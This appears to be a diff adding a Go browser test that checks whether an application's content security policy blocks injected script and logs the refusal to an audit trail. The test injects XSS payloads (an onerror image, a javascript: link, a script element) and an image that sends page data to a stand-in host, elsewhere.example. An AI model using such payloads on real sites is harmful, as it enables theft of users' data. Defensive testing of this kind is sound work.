@@ -5,6 +5,7 @@ package browser_test
 import (
 	"context"
 	"fmt"
+	"os/exec"
 	"strings"
 	"testing"
 	"time"
@@ -217,4 +218,31 @@ func TestKeysOfOnesOwn(t *testing.T) {
 		t.Error("a key acts that is off")
 	}
 	s.do(chromedp.Evaluate(`localStorage.clear()`, nil))
+}
+
+// Script that got into a page is refused by the browser, and the trail tells of it.
+func TestScriptIsRefused(t *testing.T) {
+	s := sit(t, "ann")
+	d := s.single(t)
+	s.do(chromedp.Evaluate(`document.querySelector('main').insertAdjacentHTML('beforeend', '<img src="/assets/none.png" onerror="window.ran = true"><a id="evil" href="javascript:window.ran = true">x</a>'); document.querySelector('#evil').click()`, nil),
+		chromedp.Evaluate(`document.querySelector('main').append(Object.assign(document.createElement('script'), {textContent: 'window.ran = true'}))`, nil),
+		chromedp.Evaluate(`document.querySelector('main').append(Object.assign(document.createElement('img'), {src: 'https://elsewhere.example/' + document.querySelector('#chosen').textContent}))`, nil))
+	for began := time.Now(); ; time.Sleep(50 * time.Millisecond) {
+		out, err := exec.Command(world.program, "audit", "export", "--data", world.data, "--person", "user:ann", "--action", "refused").CombinedOutput()
+		if err != nil {
+			t.Fatalf("%v: %s", err, out)
+		}
+		if strings.Contains(string(out), "the browser refused script") {
+			if strings.Contains(string(out), "elsewhere.example") || strings.Contains(string(out), d.Patient) {
+				t.Errorf("the trail holds what was refused: %s", out)
+			}
+			break
+		}
+		if time.Since(began) > 20*time.Second {
+			t.Fatalf("the trail does not tell of it: %s", out)
+		}
+	}
+	if value[bool](s, `Boolean(window.ran)`) {
+		t.Error("it ran")
+	}
 }
